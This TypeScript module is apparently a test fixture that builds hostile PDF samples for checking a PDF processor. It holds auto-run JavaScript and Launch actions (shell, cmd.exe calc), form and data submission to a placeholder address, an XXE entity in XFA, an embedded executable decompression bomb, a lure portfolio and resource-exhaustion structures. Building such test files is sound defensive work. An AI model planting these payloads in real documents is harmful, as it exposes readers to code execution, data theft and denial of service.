/** PDFs that want something done: run a script, start a program, call an address, unpack what is attached. */
import { zlibBomb } from './deflateBomb.ts';
import { CALLS, type HostileFile } from './hostileFile.ts';
import { lines, onePage, stream } from './rawPdf.ts';

const opening = (name: string, action: string): HostileFile => ({
  name: `${name}.pdf`,
  endings: ['completed'],
  isQuick: true,
  isCalling: true,
  make: () =>
    onePage({
      catalogue: `/OpenAction << ${action} >> /AA << /WC << ${action} >> /WS << ${action} >> >>`,
      page: `/AA << /O << ${action} >> >>`,
    }),
});

const script = `app.launchURL('${CALLS}'); this.submitForm('${CALLS}'); while (true) {}`;

export const CALLING_PDFS: readonly HostileFile[] = [
  opening('script on opening', `/S /JavaScript /JS (${script})`),
  opening('program on opening', '/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>'),
  opening('address on opening', `/S /URI /URI (${CALLS})`),
  opening('form sent on opening', `/S /SubmitForm /F << /FS /URL /F (${CALLS}) >>`),
  opening('data fetched on opening', `/S /ImportData /F << /FS /URL /F (${CALLS}) >>`),
  opening('other file on opening', `/S /GoToR /F << /FS /URL /F (${CALLS}) >> /D [0 /Fit]`),
  {
    name: 'content from an address.pdf',
    endings: [],
    isQuick: true,
    isCalling: true,
    make: () => onePage({ content: stream('', `/F << /FS /URL /F (${CALLS}) >> /FFilter /FlateDecode`) }),
  },
  {
    name: 'attached bomb.pdf',
    endings: ['completed'],
    isQuick: true,
    make: () =>
      onePage({
        catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
        more: [
          '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
          stream(zlibBomb(4096), '/Type /EmbeddedFile /Filter /FlateDecode'),
        ],
      }),
  },
  {
    name: 'a cover for other files.pdf',
    endings: ['only-packed-files'],
    isQuick: true,
    make: () =>
      onePage({
        content: lines('For the best experience, open this portfolio in a newer viewer.'),
        catalogue: '/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(w2.pdf) 6 0 R] >> >>',
        more: [
          '<< /Type /Filespec /UF (w2.pdf) /EF << /F 7 0 R >> >>',
          stream('%PDF-', '/Type /EmbeddedFile'),
        ],
      }),
  },
  {
    name: 'files with names of megabytes.pdf',
    endings: ['completed'],
    isQuick: true,
    make: () =>
      onePage({
        catalogue: `/Names << /EmbeddedFiles << /Names [${'(a) 6 0 R '.repeat(500)}] >> >>`,
        more: [`<< /Type /Filespec /UF (${'a'.repeat(9_000_000)}.pdf) >>`],
      }),
  },
  {
    name: 'files in a tree of ten to the twelfth branches.pdf',
    endings: ['completed'],
    isQuick: true,
    make: () =>
      onePage({
        catalogue: '/Names << /EmbeddedFiles 6 0 R >>',
        more: [
          ...Array.from({ length: 12 }, (_, level) => `<< /Kids [${`${level + 7} 0 R `.repeat(10)}] >>`),
          '<< /Names [] >>',
        ],
      }),
  },
  {
    name: 'form calculated by a script that never ends.pdf',
    endings: ['completed'],
    isQuick: true,
    make: () =>
      onePage({
        catalogue: '/AcroForm << /Fields [6 0 R] /CO [6 0 R] /NeedAppearances true >>',
        page: '/Annots [6 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /Rect [50 50 200 70] /V (1) /AA << /C << /S /JavaScript /JS (while\\(true\\){}) >> /F << /S /JavaScript /JS (while\\(true\\){}) >> >> >>',
        ],
      }),
  },
  {
    name: 'XFA only.pdf',
    endings: ['xfa-only'],
    isQuick: true,
    make: () =>
      onePage({
        content:
          'BT /F1 12 Tf 50 700 Td (Please wait... If this message is not eventually replaced by the proper contents of the document, your PDF) Tj 0 -14 Td (viewer may not be able to display this type of document.) Tj ET',
        catalogue: '/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true',
        more: [
          stream(
            `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${CALLS}">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>&e;</template></xdp:xdp>`,
          ),
        ],
      }),
  },
];
